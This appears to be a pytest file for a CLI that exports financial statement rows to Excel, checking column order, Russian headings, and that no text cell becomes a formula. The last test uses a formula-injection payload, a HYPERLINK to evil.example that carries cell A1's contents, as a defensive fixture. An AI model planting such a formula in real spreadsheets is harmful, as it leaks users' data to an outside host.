"""The CLI's ОСВ sheet has a column for every field of the contract's row; its text is
never a formula."""

from __future__ import annotations

import re
import zipfile
from pathlib import Path

import openpyxl

from services.cli._export import HEADINGS, INDEX_COLUMNS, INDEX_SHEET, OSV_COLUMNS, export_workbook
from services.contract.models.result_v2 import OsvRow


def test_osv_sheet_columns_are_the_file_then_every_contract_field_but_ref_and_extra() -> None:
    """`ref` (the row's key in the result file) and `extra` (its other table columns, a map)
    are left off; every other field of the generated model is a column, in its order."""
    fields = tuple(f for f in OsvRow.model_fields if f not in {"ref", "extra"})
    assert ("file", *fields) == OSV_COLUMNS


def test_every_column_of_the_cli_workbook_has_a_russian_heading() -> None:
    """A field the contract adds to the ОСВ row fails here until it has a Russian heading
    (it would be written under its English key meanwhile)."""
    for column in (*INDEX_COLUMNS, *OSV_COLUMNS, "line_code", "line_name", "needs_review"):
        assert re.fullmatch(r"[А-Яа-яЁё№ ,]+", HEADINGS[column]), column


def test_no_text_cell_of_the_cli_workbook_is_a_formula(tmp_path: Path) -> None:
    """A file name and a line name that begin with «=» stay text: no <f> in the workbook's XML,
    the text read back as written, amounts (a negative one too) numbers."""
    injected = '=HYPERLINK("http://evil.example/?"&A1,"Выручка")'
    document = {
        "document_type": "INCOME",
        "status": "done",
        "columns": [{"column_index": 3, "label": "2024"}],
        "lines": [
            {
                "line_code": "2110",
                "line_name": injected,
                "values": [{"column_index": 3, "amount": "-5"}],
            }
        ],
    }
    path = tmp_path / "out.xlsx"
    assert (
        export_workbook(path, [("=cmd.xlsx", "XLSX", {"status": "done", "documents": [document]})])
        == 1
    )
    with zipfile.ZipFile(path) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        assert sheets and not any(b"<f>" in archive.read(n) for n in sheets)
    book = openpyxl.load_workbook(path)
    assert book[INDEX_SHEET].cell(2, 1).value == "=cmd.xlsx"
    line = book.worksheets[1][2]
    assert (line[1].value, line[1].data_type) == (injected, "s")
    assert (line[2].value, line[2].data_type) == (-5, "n")
